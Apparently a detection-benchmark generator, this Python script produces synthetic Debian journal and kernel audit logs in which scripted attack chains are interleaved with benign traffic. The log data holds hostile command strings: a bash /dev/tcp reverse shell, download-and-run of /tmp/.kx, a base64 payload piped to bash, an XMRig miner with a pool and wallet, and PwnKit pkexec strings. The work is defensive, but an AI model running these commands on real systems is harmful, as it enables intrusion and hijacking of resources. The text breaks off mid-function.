#!/usr/bin/env python3
"""Scenario corpus for detection quality: gen_journal's benign background with scripted attacks.

Reuses $SHARED/bench/gen_journal.py (imported by path; SHARED defaults to ../shared beside the
repository, as in the Makefile) for the background of a health-care host (sshd, sudo, systemd,
cron, nginx, the EHR API, PostgreSQL, kernel, audit), with gen_journal's own scripted intrusions
turned off, and embeds attack chains (ATT&CK steps) written with the real message formats of
Debian 12's programs (OpenSSH 9.2, sudo 1.9.13, shadow 4.13, systemd 252, cron, polkit,
PostgreSQL 15) and, for processes and files, complete kernel audit record groups (SYSCALL, EXECVE,
CWD, PATH, PROCTITLE …) converted by scripts/audit-export.py exactly as journald stores them.

    python3 scripts/scenarios.py -n 1000000 --seed 42 --manifest DIR/manifest.json \\
      | /lib/systemd/systemd-journal-remote --output=DIR/scenarios.journal -
    python3 scripts/scenarios.py --self-test

Time: gen_journal's gaps between background entries are stretched by --time-scale (default 11:
1M entries span about ten days, about 1.3 entries/s), so first_seen detectors (7 days of learning)
have learnt before the late chains. Chains keep their own real timing (a brute force at ~2
attempts/s …) and are interleaved with the background by time.

Manifest (JSON): `steps` (id, chain, name, technique, description, start/end = realtime µs of the
step's first and last entry, entries, expect = rule names that must alert within [start, end +
tail], allow = rule names that may), `noise` (gen_journal's hostile or policy-violating background:
internet SSH noise, brute-force bursts, the "user NOT in sudoers" line; kind, rules allowed to fire
there, entries, half-open [start, end) ranges in µs), `entries` (total, chain, noise, benign) and
`catalogue` (the rule names of rule-pack.md, by tactic). Python 3 standard library only.
"""
import argparse
import hashlib
import heapq
import importlib.util
import json
import os
import random
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)

# Rule names of the pack (rules/README.md), by tactic, and the variants the pack adds for other log sources.
CATALOGUE = {
    "credential-access": ["sshd_failed_password", "sshd_brute_force", "sshd_password_spray",
                          "sshd_distributed_brute_force", "sshd_login_after_brute_force", "sshd_root_login",
                          "sshd_system_account_login", "sshd_locked_account_attempt",
                          "sshd_new_source_for_user", "sshd_message_from_other_process"],
    "privilege-escalation": ["sudo_authentication_failure", "sudo_repeated_failures", "sudo_not_in_sudoers",
                             "sudo_root_shell", "sudo_suspicious_target_user", "pkexec_abuse",
                             "setuid_executable_created", "user_added_to_privileged_group",
                             "pkexec_abuse_exec", "pkexec_abuse_kernel", "setuid_executable_created_exec",
                             "user_added_to_privileged_group_exec"],
    "persistence": ["local_user_created", "uid0_account_created", "authorized_keys_changed",
                    "systemd_unit_created", "crontab_modified", "kernel_module_loaded",
                    "shell_profile_modified", "ld_preload_modified", "kernel_module_load_syscall"],
    "defense-evasion": ["audit_disabled", "audit_rules_deleted", "auditd_stopped", "auditd_gone", "journal_tampering",
                        "firewall_disabled", "history_cleared", "system_time_changed", "mac_disabled",
                        "cordon_stopped"],
    "execution": ["reverse_shell", "reverse_shell_connection", "download_and_execute", "executable_in_tmp", "base64_payload_execution",
                  "crypto_miner"],
    "impact": ["service_stopped", "mass_service_stop", "backup_deletion", "backup_deletion_sudo", "encrypted_file_written",
               "mass_file_encryption", "ransom_note_created", "ransom_note_created_cmdline", "service_failing_repeatedly",
               "service_restart_loop", "database_auth_failure", "database_auth_failure_burst"],
}
ALL_RULES = [name for names in CATALOGUE.values() for name in names]

# gen_journal's hostile or policy-violating background: kind -> rule names allowed to fire there.
NOISE_RULES = {
    "internet_ssh": ["sshd_failed_password"],
    "bruteforce_burst": ["sshd_failed_password", "sshd_brute_force", "sshd_password_spray"],
    "sudo_not_in_sudoers": ["sudo_not_in_sudoers", "sudo_authentication_failure"],
}
TAIL_US = 600_000_000          # a step detects a rule alerting until 10 min after its last entry
SEC = 1_000_000


def load_module(name, path):
    spec = importlib.util.spec_from_file_location(name, path)
    if spec is None or not os.path.exists(path):
        sys.exit("scenarios: %s not found (set SHARED or --gen-journal)" % path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def gen_journal_path():
    shared = os.environ.get("SHARED") or os.path.join(ROOT, "..", "shared")
    return os.path.join(shared, "bench", "gen_journal.py")


def audit_quote(value):
    """A value as the kernel logs an untrusted string: "quoted", or hex when it needs escaping."""
    raw = value.encode() if isinstance(value, str) else value
    if any(c < 0x21 or c > 0x7E or c == 0x22 for c in raw):
        return raw.hex().upper()
    return '"%s"' % raw.decode()


SETUID_ROOT = {"/usr/bin/sudo", "/usr/bin/pkexec", "/usr/bin/passwd", "/usr/bin/su", "/usr/bin/chsh", "/usr/bin/gpasswd"}


class Proc:
    """A process of the scenario: what its audit records say about it (setuid-root programs run with euid 0)."""

    def __init__(self, pid, ppid, uid, auid, ses, tty, cwd, exe, argv, comm=None, gid=None):
        self.pid, self.ppid, self.uid, self.auid, self.ses = pid, ppid, uid, auid, ses
        self.tty, self.cwd, self.exe, self.argv = tty, cwd, exe, argv
        self.comm = (comm or os.path.basename(argv[0] if argv else exe).lstrip("-") or "sh")[:15]
        self.gid = uid if gid is None else gid
        self.euid = 0 if exe in SETUID_ROOT else uid


def make_corpus_class(gj, ae):
    """The generator class, built on the gen_journal module `gj` and the audit-export module `ae`."""

    class Corpus(gj.Gen):
        def __init__(self, seed, n, start, time_scale=11.0):
            super().__init__(seed, n, start)
            self.seed, self.start = seed, start
            self.attack_at = []                     # gen_journal's own intrusions: off
            self.sr = random.Random("scenarios-%d" % seed)
            self.scale = time_scale
            self.pending = []                       # heap of (time, seq, step, action)
            self.seq = 0
            self.sched = []                         # (entry count, chain builder), by count
            self.steps = []
            self.cur = None                         # the step whose action is emitting
            self.pumping = False
            self.last_rt = 0
            self.chain_entries = 0
            self.noise = {kind: {"ranges": [], "entries": 0} for kind in NOISE_RULES}
            self.serial = 20_000_000               # audit serials (gen_journal's random ones are < 10^7)
            self.first_rt = None

        # ---------- labelling gen_journal's noise (reads self.rt/self.count only) ----------
        def _noise(self, kind, fn, *args):
            start, count, chain = self.rt, self.count, self.chain_entries
            mark = len(self.out)
            fn(*args)
            if kind == "sudo_not_in_sudoers":
                if not any(b"mlopez : user NOT in sudoers" in e for e in self.out[mark:]):
                    return
            record = self.noise[kind]
            record["entries"] += (self.count - count) - (self.chain_entries - chain)
            ranges = record["ranges"]
            if ranges and ranges[-1][1] == start:
                ranges[-1][1] = self.rt
            else:
                ranges.append([start, self.rt])

        def ev_sshd_noise(self):
            self._noise("internet_ssh", super().ev_sshd_noise)

        def ev_burst_step(self):
            self._noise("bruteforce_burst", super().ev_burst_step)

        def ev_sudo(self, u=None, uid=None, s=None):
            self._noise("sudo_not_in_sudoers", super().ev_sudo, u, uid, s)

        # ---------- interleaving chains with the background ----------
        def emit(self, key, ident, msg, prio=6, pid=None, extra=None, subst=None):
            if self.pumping:
                return super().emit(key, ident, msg, prio, pid, extra, subst)
            self.pump()
            before = self.rt
            if self.first_rt is None:
                self.first_rt = before
            super().emit(key, ident, msg, prio, pid, extra, subst)
            self.last_rt = before
            if self.scale != 1.0:
                self.rt = before + max(1, int((self.rt - before) * self.scale))

        def pump(self):
            while self.sched and self.count >= self.sched[0][0]:
                _, builder = self.sched.pop(0)
                builder(self.rt)
            self.pumping = True
            try:
                while self.pending and self.pending[0][0] <= self.rt:
                    t, _, step, action = heapq.heappop(self.pending)
                    self.cur = step
                    action(t)
                    self.cur = None
            finally:
                self.pumping = False

        def at(self, t, step, action):
            self.seq += 1
            heapq.heappush(self.pending, (int(t), self.seq, step, action))

        def step(self, sid, chain, name, technique, description, expect, allow=()):
            s = {"id": sid, "order": len(self.steps), "chain": chain, "name": name, "technique": technique, "description": description,
                 "start": None, "end": None, "entries": 0, "expect": list(expect), "allow": list(allow),
                 "sample": []}
            self.steps.append(s)
            return s

        def _note(self, t, msg):
            s = self.cur
            self.chain_entries += 1
            if s is not None:
                if s["start"] is None:
                    s["start"] = t
                if msg is not None and len(s["sample"]) < 6:
                    s["sample"].append(msg[:300])
                s["end"] = t
                s["entries"] += 1

        def cemit(self, t, key, ident, msg, prio=6, pid=None, extra=None, subst=None):
            """One chain entry at time t (or just after the last entry), through gen_journal's emit. An entry
            later than the background's next one waits in the queue, so chains and background interleave by time."""
            t = int(t)
            if t > self.rt:
                self.at(t, self.cur, lambda tt: self.cemit(tt, key, ident, msg, prio, pid, extra, subst))
                return t
            t = max(t, self.last_rt + 1)
            saved_rt, saved_r, saved_gap = self.rt, self.r, self.gap
            self.rt, self.r = t, self.sr
            try:
                gj.Gen.emit(self, key, ident, msg, prio, pid, extra, subst)
            finally:
                self.r, self.gap = saved_r, saved_gap
            self.last_rt = t
            self.rt = max(saved_rt, t + 1)
            self._note(t, msg)
            return t

        def audit(self, t, records, label=None):
            """One kernel audit event: [(TYPE, body)], converted by audit-export as journald stores it.
            label: how the step's sample in the manifest shows the event."""
            t = int(t)
            if t > self.rt:
                self.at(t, self.cur, lambda tt: self.audit(tt, records, label))
                return t
            t = max(t, self.last_rt + 1)
            self.serial += self.sr.randint(1, 60)
            src_ms = (t - 350) // 1000
            stamp = "audit(%d.%03d:%d): " % (src_ms // 1000, src_ms % 1000, self.serial)
            for i, (typ, body) in enumerate(records):
                parsed = ae.parse_line(("type=%s msg=%s%s" % (typ, stamp, body)).encode(), 0)
                if parsed is None or not ae.accepted_by_journald(parsed[0]):
                    continue
                result = ae.process_audit_string(*parsed)
                if result is None:
                    continue
                rt = max(t + 23 * i, self.last_rt + 1)
                entry = [b"__REALTIME_TIMESTAMP=%d\n" % rt, b"__MONOTONIC_TIMESTAMP=%d\n" % (rt - self.boot_start)]
                entry += [ae.export_field(k, v) for k, v in result[1]]
                entry += [ae.export_field("_BOOT_ID", self.boot_id.encode()),
                          ae.export_field("_MACHINE_ID", gj.MACHINE_ID.encode()),
                          ae.export_field("_HOSTNAME", gj.HOST.encode()),
                          ae.export_field("_RUNTIME_SCOPE", b"system")]
                self.out.append(b"".join(entry) + b"\n")
                self.count += 1
                self.stats["audit"] = self.stats.get("audit", 0) + 1
                self.last_rt = rt
                self.rt = max(self.rt, rt + 1)
                self._note(rt, (label or "audit %s %s" % (typ, body)) if i == 0 else None)
            return t

        # ---------- audit record groups ----------
        def _syscall(self, p, nr, exit_, args, items, key, success="yes"):
            return ("SYSCALL", "arch=c000003e syscall=%d success=%s exit=%s a0=%s a1=%s a2=%s a3=%s items=%d ppid=%d pid=%d "
                    "auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d tty=%s ses=%d comm=%s exe=%s "
                    "subj=unconfined key=%s" % (
                        nr, success, exit_, args[0], args[1], args[2], args[3], items, p.ppid, p.pid, p.auid,
                        p.uid, p.gid, p.euid, p.euid, p.euid, p.gid, p.gid, p.gid, p.tty, p.ses, audit_quote(p.comm),
                        audit_quote(p.exe), audit_quote(key) if key else "(null)"))

        def _ptr(self):
            return "%x" % (0x550000000000 + self.sr.getrandbits(36))

        def _path(self, item, name, nametype, mode="0100755", ouid=0):
            return ("PATH", "item=%d name=%s inode=%d dev=08:01 mode=%s ouid=%d ogid=%d rdev=00:00 nametype=%s "
                    "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0" % (
                        item, audit_quote(name), self.sr.randint(100000, 3000000), mode, ouid, ouid, nametype))

        def _proctitle(self, p):
            title = "\0".join(p.argv).encode()[:128]
            return ("PROCTITLE", "proctitle=%s" % (audit_quote(title) if title else '""'))

        def spawn(self, t, parent, argv, exe, uid=None, key="exec", script=None, cwd=None, comm=None):
            """parent forks and the child execs exe with argv: the exec's audit event. Returns the child."""
            pid = self.nextpid_sr()
            child = Proc(pid, parent.pid, parent.uid if uid is None else uid, parent.auid, parent.ses, parent.tty,
                         cwd or parent.cwd, exe, argv, comm=comm or (os.path.basename(script) if script else None))
            return self.execve(t, child, key=key, script=script)

        def execve(self, t, p, key="exec", script=None):
            recs = [self._syscall(p, 59, 0, [self._ptr(), self._ptr(), self._ptr(), "8"], 3 if script else 2, key),
                    ("EXECVE", ("argc=%d %s" % (len(p.argv), " ".join("a%d=%s" % (i, audit_quote(a)) for i, a in enumerate(p.argv)))).rstrip()),
                    ("CWD", "cwd=%s" % audit_quote(p.cwd))]
            item = 0
            if script:
                recs.append(self._path(item, script, "NORMAL"))
                item += 1
            recs.append(self._path(item, p.exe if not p.argv or "/" not in p.argv[0] or script else p.argv[0], "NORMAL",
                                   mode="0104755" if p.exe in SETUID_ROOT else "0100755",
                                   ouid=p.uid if p.exe.startswith(("/tmp/", "/var/tmp/", "/dev/shm/")) else 0))
            recs.append(self._path(item + 1, "/lib64/ld-linux-x86-64.so.2", "NORMAL"))
            if p.argv:
                recs.append(self._proctitle(p))
            self.audit(t, recs, "audit exec uid=%d %s: %s" % (p.uid, p.exe, " ".join(p.argv)))
            return p

        def open_write(self, t, p, path, key, create=True, append=False):
            flags = 0x441 if append else 0x241
            recs = [self._syscall(p, 257, 3, ["ffffff9c", self._ptr(), "%x" % flags, "1b6"], 2, key),
                    ("CWD", "cwd=%s" % audit_quote(p.cwd)),
                    self._path(0, os.path.dirname(path) + "/", "PARENT", mode="040755"),
                    self._path(1, path, "CREATE" if create else "NORMAL", mode="0100644", ouid=p.uid),
                    self._proctitle(p)]
            return self.audit(t, recs, "audit open for write by %s: %s" % (p.exe, path))

        def rename(self, t, p, old, new, key):
            d = os.path.dirname(new) + "/"
            recs = [self._syscall(p, 82, 0, [self._ptr(), self._ptr(), "0", "0"], 4, key),
                    ("CWD", "cwd=%s" % audit_quote(p.cwd)),
                    self._path(0, d, "PARENT", mode="040755", ouid=p.uid),
                    self._path(1, d, "PARENT", mode="040755", ouid=p.uid),
                    self._path(2, old, "DELETE", mode="0100640", ouid=p.uid),
                    self._path(3, new, "CREATE", mode="0100640", ouid=p.uid),
                    self._proctitle(p)]
            return self.audit(t, recs, "audit rename by %s: %s -> %s" % (p.exe, old, new))

        def unlink(self, t, p, path, key):
            recs = [self._syscall(p, 263, 0, ["ffffff9c", self._ptr(), "0", "0"], 2, key),
                    ("CWD", "cwd=%s" % audit_quote(p.cwd)),
                    self._path(0, os.path.dirname(path) + "/", "PARENT", mode="042755"),
                    self._path(1, path, "DELETE", mode="0100640"),
                    self._proctitle(p)]
            return self.audit(t, recs, "audit unlink by %s: %s" % (p.exe, path))

        def symlink(self, t, p, target, link, key):
            recs = [self._syscall(p, 266, 0, [self._ptr(), "ffffff9c", self._ptr(), "0"], 2, key),
                    ("CWD", "cwd=%s" % audit_quote(p.cwd)),
                    self._path(0, os.path.dirname(link) + "/", "PARENT", mode="040755"),
                    self._path(1, link, "CREATE", mode="0120777"),
                    self._proctitle(p)]
            return self.audit(t, recs, "audit symlink by %s: %s -> %s" % (p.exe, link, target))

        def connect(self, t, p, ip, port, key="network_connect_4"):
            saddr = "0200%04X%s0000000000000000" % (port, "".join("%02X" % int(x) for x in ip.split(".")))
            recs = [self._syscall(p, 42, 0, ["3", self._ptr(), "10", "0"], 0, key),
                    ("SOCKADDR", "saddr=%s" % saddr), self._proctitle(p)]
            return self.audit(t, recs, "audit connect by %s to %s:%d" % (p.exe, ip, port))

        def sendto_config(self, t, p, changes):
            """auditctl/auditd talking to the kernel: CONFIG_CHANGE records + SYSCALL sendto + PROCTITLE."""
            recs = [("CONFIG_CHANGE", c) for c in changes]
            recs.append(self._syscall(p, 44, 60, ["3", self._ptr(), "3c", "0"], 0, None))
            recs.append(self._proctitle(p))
            return self.audit(t, recs, "audit CONFIG_CHANGE by %s: %s" % (p.exe, "; ".join(changes)))

        def nextpid_sr(self):
            saved = self.r
            self.r = self.sr
            try:
                return self.nextpid()
            finally:
                self.r = saved

        # ---------- journal lines of the real programs ----------
        def setup_idents(self):
            super().setup_idents()
            saved = self.r
            self.r = self.sr                          # the idents' invocation ids: our randomness
            try:
                self.ident("pkexec", "pkexec", "/usr/bin/pkexec", "pkexec", 998, 998, "ehr-api.service", facility=10)
                self.ident("logger", "logger", "/usr/bin/logger", "logger -t sshd", 1003, 1003, "session-{S}.scope",
                           facility=1, slice_="user-1003.slice")
                self.ident("groupadd", "groupadd", "/usr/sbin/groupadd", "groupadd", 0, 0, "session-{S}.scope",
                           facility=10, slice_="user-0.slice")
                self.ident("crond", "cron", "/usr/sbin/cron", "/usr/sbin/cron -f", 0, 0, "cron.service", facility=9)
            finally:
                self.r = saved

        def sysd(self, t, msg, unit, prio=6, extra=()):
            x = [("UNIT", unit), ("CODE_FILE", "src/core/unit.c"), ("CODE_FUNC", "unit_log_success")] + list(extra)
            return self.cemit(t, "systemd", "systemd", msg, prio=prio, pid=1, extra=x)

        def ssh(self, t, msg, pid, prio=6):
            return self.cemit(t, "sshd", "sshd", msg, prio=prio, pid=pid)

        def port(self):
            return self.sr.randint(32768, 60999)

        def pub_ip_sr(self):
            saved = self.r
            self.r = self.sr
            try:
                return self.pub_ip()
            finally:
                self.r = saved

        def ssh_fail(self, t, ip, user, port, pid, invalid=False, closes=True):
            if invalid:
                t = self.ssh(t, "Invalid user %s from %s port %d" % (user, ip, port), pid)
                t = self.ssh(t + 900, "pam_unix(sshd:auth): check pass; user unknown", pid, prio=5)
                t = self.ssh(t + 40, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s" % ip, pid, prio=5)
                t = self.ssh(t + 2_100_000, "Failed password for invalid user %s from %s port %d ssh2" % (user, ip, port), pid, prio=5)
                if closes:
                    t = self.ssh(t + 300_000, "Connection closed by invalid user %s %s port %d [preauth]" % (user, ip, port), pid)
            else:
                t = self.ssh(t, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s" % (ip, user), pid, prio=5)
                t = self.ssh(t + 2_000_000, "Failed password for %s from %s port %d ssh2" % (user, ip, port), pid, prio=5)
                if closes:
                    t = self.ssh(t + 250_000, "Connection closed by authenticating user %s %s port %d [preauth]" % (user, ip, port), pid)
            return t

        def ssh_login(self, t, ip, user, uid, method="password", key_fp=None):
            """sshd accepts a login; PAM session, logind, the session scope; the login shell's exec. Returns (shell, session, sshd pid, port, t)."""
            pid = self.nextpid_sr()
            port = self.port()
            if method == "publickey":
                t = self.ssh(t, "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s" % (user, ip, port, key_fp), pid)
            else:
                t = self.ssh(t, "Accepted password for %s from %s port %d ssh2" % (user, ip, port), pid)
            self.session += 1
            s = self.session
            t = self.ssh(t + 4000, "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (user, uid), pid)
            t = self.cemit(t + 3000, "logind", "systemd-logind", "New session %d of user %s." % (s, user), pid=612,
                           extra=[("SESSION_ID", s), ("USER_ID", user)])
            t = self.cemit(t + 2000, "systemd", "systemd", "Started session-%d.scope - Session %d of User %s." % (s, s, user),
                           pid=1, extra=[("UNIT", "session-%d.scope" % s)])
            home = "/root" if uid == 0 else ("/var/www" if user == "www-data" else "/home/" + user)
            sshd_child = Proc(pid + 2, pid, uid, uid, s, "pts%d" % self.sr.randint(0, 5), home, "/usr/sbin/sshd", ["sshd: %s@pts/0" % user])
            shell = self.spawn(t + 40_000, sshd_child, ["-bash"], "/usr/bin/bash", comm="bash")
            return shell, s, pid, port, t + 40_000

        def ssh_logout(self, t, ip, user, s, pid, port):
            t = self.ssh(t, "Received disconnect from %s port %d:11: disconnected by user" % (ip, port), pid)
            t = self.ssh(t + 500, "Disconnected from user %s %s port %d" % (user, ip, port), pid)
            t = self.ssh(t + 2000, "pam_unix(sshd:session): session closed for user %s" % user, pid)
            t = self.cemit(t + 3000, "logind", "systemd-logind", "Session %d logged out. Waiting for processes to exit." % s, pid=612)
            return self.cemit(t + 9000, "logind", "systemd-logind", "Removed session %d." % s, pid=612)

        def sudo_line(self, t, s, user, tty, pwd, target, command, pid=None):
            pid = pid or self.nextpid_sr()
            sub = {"{S}": str(s)}
            return self.cemit(t, "sudo", "sudo", "%8s : TTY=%s ; PWD=%s ; USER=%s ; COMMAND=%s" % (user, tty, pwd, target, command),
                              prio=5, pid=pid, subst=sub)

        def sudo_root_shell(self, t, shell, user, uid, s):
            """`sudo -i` in shell: sudo's lines and its exec of root's login shell. Returns the root shell."""
            sudo = self.spawn(t, shell, ["sudo", "-i"], "/usr/bin/sudo")
            t = self.sudo_line(t + 1_800_000, s, user, "pts/%s" % shell.tty[3:], shell.cwd, "root", "/bin/bash", pid=sudo.pid)
            t = self.cemit(t + 2000, "sudo", "sudo", "pam_unix(sudo-i:session): session opened for user root(uid=0) by %s(uid=%d)" % (user, uid),
                           pid=sudo.pid, subst={"{S}": str(s)})
            root = Proc(self.nextpid_sr(), sudo.pid, 0, shell.auid, s, shell.tty, "/root", "/usr/bin/bash", ["-bash"], comm="bash")
            self.execve(t + 5000, root)
            return root

        # ---------- the chains ----------
        def plan(self):
            """Chains placed at fractions of the corpus (by entry count); steps timed from the chain start."""
            n = self.n
            chains = [(0.12, self.chain_web_rce), (0.18, self.chain_spray), (0.24, self.chain_distributed),
                      (0.29, self.chain_locked), (0.31, self.chain_system_account), (0.35, self.chain_insider),
                      (0.37, self.chain_stolen_key), (0.39, self.chain_sudo_guessing), (0.44, self.chain_root_persistence),
                      (0.58, self.chain_ransomware), (0.68, self.chain_crash_loop), (0.75, self.chain_db_burst),
                      (0.86, self.chain_issue)]
            self.sched = [(int(n * f), fn) for f, fn in chains]

        def chain_web_rce(self, t0):
            c = "web-rce"
            ip = "185.220.101.34"
            java = Proc(1422, 1, 998, 4294967295, 4294967295, "(none)", "/opt/ehr", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
                        ["/usr/bin/java", "-Xmx4g", "-jar", "/opt/ehr/ehr-api.jar"], comm="java")
            st = {}
            s1 = self.step("W1", c, "reverse shell from the EHR API (java runs bash /dev/tcp)", "T1059.004",
                           "A request exploits the Java API; java execs bash -c 'bash -i >& /dev/tcp/IP/4444 0>&1'; bash connects out.",
                           ["reverse_shell", "reverse_shell_connection"])

            def rce(t):
                cmd = "bash -i >& /dev/tcp/%s/4444 0>&1" % ip
                self.cemit(t, "nginx", "nginx", '%s - - "POST /api/v1/patients/search HTTP/1.1" 200 112 "-" "Mozilla/5.0 zgrab/0.x"' % ip, pid=901)
                sh = self.spawn(t + 30_000, java, ["/bin/bash", "-c", cmd], "/usr/bin/bash")
                child = Proc(self.nextpid_sr(), sh.pid, 998, sh.auid, sh.ses, "(none)", "/opt/ehr", "/usr/bin/bash", sh.argv, comm="bash")
                self.connect(t + 32_000, child, ip, 4444)
                child.argv = ["bash", "-i"]
                st["shell"] = self.execve(t + 33_000, child)
                for i, (argv, exe) in enumerate([(["id"], "/usr/bin/id"), (["uname", "-a"], "/usr/bin/uname"),
                                                 (["cat", "/etc/passwd"], "/usr/bin/cat")]):
                    self.spawn(t + 6 * SEC + i * 4 * SEC, st["shell"], argv, exe)
            self.at(t0, s1, rce)

            s2 = self.step("W2", c, "download to /tmp, chmod +x, run it", "T1105",
                           "wget writes /tmp/.kx, chmod +x /tmp/.kx, /tmp/.kx runs (ELF in /tmp).", ["executable_in_tmp"])

            def tmp_exec(t):
                sh = st["shell"]
                w = self.spawn(t, sh, ["wget", "-q", "http://%s:8000/kx" % ip, "-O", "/tmp/.kx"], "/usr/bin/wget", key="susp_activity")
                self.connect(t + 20_000, w, ip, 8000)
                self.open_write(t + 40_000, w, "/tmp/.kx", "tmp_download")
                self.spawn(t + 5 * SEC, sh, ["chmod", "+x", "/tmp/.kx"], "/usr/bin/chmod")
                self.spawn(t + 9 * SEC, sh, ["/tmp/.kx"], "/tmp/.kx", comm=".kx")
            self.at(t0 + 70 * SEC, s2, tmp_exec)

            s3 = self.step("W3", c, "base64-encoded payload piped into bash", "T1027",
                           "bash -c 'echo <b64> | base64 -d | bash'", ["base64_payload_execution"])

            def b64(t):
                sh = st["shell"]
                payload = "aWQ7dW5hbWUgLWE7Y2F0IC9ldGMvb3MtcmVsZWFzZQ=="
                b = self.spawn(t, sh, ["bash", "-c", "echo %s | base64 -d | bash" % payload], "/usr/bin/bash")
                self.spawn(t + 3000, b, ["base64", "-d"], "/usr/bin/base64", key="susp_activity")
                inner = self.spawn(t + 3500, b, ["bash"], "/usr/bin/bash")
                self.spawn(t + 9000, inner, ["id"], "/usr/bin/id")
                self.spawn(t + 12000, inner, ["uname", "-a"], "/usr/bin/uname")
            self.at(t0 + 150 * SEC, s3, b64)

            s4 = self.step("W4", c, "XMRig miner unpacked to /var/tmp and started", "T1496",
                           "curl fetches xmrig into /var/tmp/.cache, tar x, xmrig -o stratum+tcp://... --donate-level 1 -B",
                           ["crypto_miner", "executable_in_tmp"])

            def miner(t):
                sh = st["shell"]
                url = "http://%s:8000/xmrig-6.21.0-linux-static-x64.tar.gz" % ip
                self.spawn(t, sh, ["mkdir", "-p", "/var/tmp/.cache"], "/usr/bin/mkdir")
                cu = self.spawn(t + 2 * SEC, sh, ["curl", "-s", "-o", "/var/tmp/.cache/x.tgz", url], "/usr/bin/curl", key="susp_activity")
                self.connect(t + 2 * SEC + 20_000, cu, ip, 8000)
                self.open_write(t + 2 * SEC + 60_000, cu, "/var/tmp/.cache/x.tgz", "tmp_download")
                self.spawn(t + 8 * SEC, sh, ["tar", "xzf", "/var/tmp/.cache/x.tgz", "-C", "/var/tmp/.cache"], "/usr/bin/tar")
                xm = self.spawn(t + 12 * SEC, sh, ["/var/tmp/.cache/xmrig-6.21.0/xmrig", "-o", "stratum+tcp://pool.supportxmr.com:3333",
                                                   "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
                                                   "-k", "--donate-level", "1", "-B"], "/var/tmp/.cache/xmrig-6.21.0/xmrig")
                self.connect(t + 12 * SEC + 300_000, xm, "104.243.33.118", 3333)
            self.at(t0 + 240 * SEC, s4, miner)

            s5 = self.step("W5", c, "PwnKit (CVE-2021-4034): pkexec with an empty argv", "T1068",
                           "pkexec exec'd with argc=0 and GCONV_PATH; pkexec logs the SHELL/suspicious-content lines; a root shell follows.",
                           ["pkexec_abuse", "pkexec_abuse_exec", "pkexec_abuse_kernel"])

            def pwnkit(t):
                sh = st["shell"]
                self.spawn(t, sh, ["gcc", "-shared", "-fPIC", "-o", "pwnkit/pwnkit.so", "pwnkit.c"], "/usr/bin/x86_64-linux-gnu-gcc-12",
                           cwd="/tmp/.pk")
                pk = Proc(self.nextpid_sr(), sh.pid, 998, sh.auid, sh.ses, sh.tty, "/tmp/.pk", "/usr/bin/pkexec", [], comm="pkexec")
                self.execve(t + 6 * SEC, pk)
                # Linux 5.18+ adds an empty argv[0] and says so (fs/exec.c), naming the caller and the program.
                self.cemit(t + 6 * SEC + 500, "kernel", "kernel",
                           "process 'pwnkit' launched '/usr/bin/pkexec' with NULL argv: empty string added", prio=4)
                self.cemit(t + 6 * SEC + 8000, "pkexec", "pkexec",
                           "ehr: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=unknown] "
                           "[CWD=/tmp/.pk] [COMMAND=GCONV_PATH=./pwnkit.so:. PATH=GCONV_PATH=. CHARSET=PWNKIT SHELL=pwnkit]",
                           prio=2, pid=pk.pid)
                self.cemit(t + 6 * SEC + 9000, "pkexec", "pkexec",
                           "ehr: The value for environment variable XAUTHORITY contains suscipious content [USER=root] [TTY=unknown] "
                           "[CWD=/tmp/.pk] [COMMAND=GCONV_PATH=./pwnkit.so:. PATH=GCONV_PATH=. CHARSET=PWNKIT SHELL=pwnkit]",
                           prio=2, pid=pk.pid)
                root = Proc(pk.pid, sh.pid, 0, sh.auid, sh.ses, sh.tty, "/tmp/.pk", "/usr/bin/dash", ["/bin/sh"], comm="sh")
                self.execve(t + 6 * SEC + 12_000, root)
                self.spawn(t + 10 * SEC, root, ["id"], "/usr/bin/id")
            self.at(t0 + 420 * SEC, s5, pwnkit)

        def chain_spray(self, t0):
            ip = "45.134.26.17"
            s = self.step("P1", "password-spray", "SSH password spray: one source, 8 user names, one try each", "T1110.003",
                          "One failed password each for jdoe, admin, asmith, mlopez, oracle, deploy, ansible, backup from one "
                          "address, ~40 s apart (under ten attempts in five minutes): the host's real accounts, as an "
                          "attacker who harvested staff names tries them, and two that do not exist.",
                          ["sshd_failed_password", "sshd_password_spray"], ["sshd_brute_force"])
            users = [("jdoe", False), ("admin", True), ("asmith", False), ("mlopez", False), ("oracle", True),
                     ("deploy", False), ("ansible", False), ("backup", False)]
            for i, (u, invalid) in enumerate(users):
                self.at(t0 + i * (40 + self.sr.randint(0, 5)) * SEC, s,
                        lambda t, u=u, invalid=invalid: self.ssh_fail(t, ip, u, self.sr.randint(1024, 65535), self.nextpid_sr(), invalid))

        def chain_distributed(self, t0):
            s = self.step("D1", "distributed-brute-force", "SSH brute force on jdoe from 14 addresses", "T1110.001",
                          "14 public addresses, 2 failed passwords each for the existing user jdoe over ~16 minutes.",
                          ["sshd_failed_password", "sshd_distributed_brute_force"])
            ips = ["%d.%d.%d.%d" % (a, self.sr.randint(0, 255), self.sr.randint(0, 255), self.sr.randint(1, 254))
                   for a in (5, 31, 37, 46, 77, 89, 91, 103, 109, 146, 176, 185, 193, 212)]
            k = 0
            for rnd in range(2):
                for ip in ips:
                    self.at(t0 + k * 34 * SEC + self.sr.randint(0, 3 * SEC), s,
                            lambda t, ip=ip: self.ssh_fail(t, ip, "jdoe", self.sr.randint(1024, 65535), self.nextpid_sr()))
                    k += 1

        def chain_locked(self, t0):
            ip = "103.77.192.14"
            s = self.step("L1", "locked-account", "SSH attempts on a locked account", "T1078",
                          "A departed employee's locked account (mhernandez) tried twice from one address.",
                          ["sshd_locked_account_attempt"], ["sshd_failed_password"])

            def attempt(t):
                pid, port = self.nextpid_sr(), self.port()
